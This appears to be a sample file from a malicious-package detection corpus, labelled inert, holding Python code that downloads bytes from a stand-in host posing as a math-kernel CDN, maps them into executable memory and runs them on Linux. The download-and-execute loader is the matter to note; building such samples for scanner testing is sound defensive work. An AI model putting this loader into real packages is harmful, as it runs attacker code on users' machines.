# pkgguard corpus 880 (download-execute), modelled on [obfuscation]; inert, never run.
import ctypes
import mmap
import sys
import urllib.request

if sys.platform.startswith("linux"):
    try:
        code = urllib.request.urlopen("https://cdn.fast-math.example/kernels/avx2", timeout=10).read()
    except OSError:
        code = b""
    if code:
        region = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        region.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(region))
        kernel = ctypes.CFUNCTYPE(ctypes.c_int)(address)
        kernel()
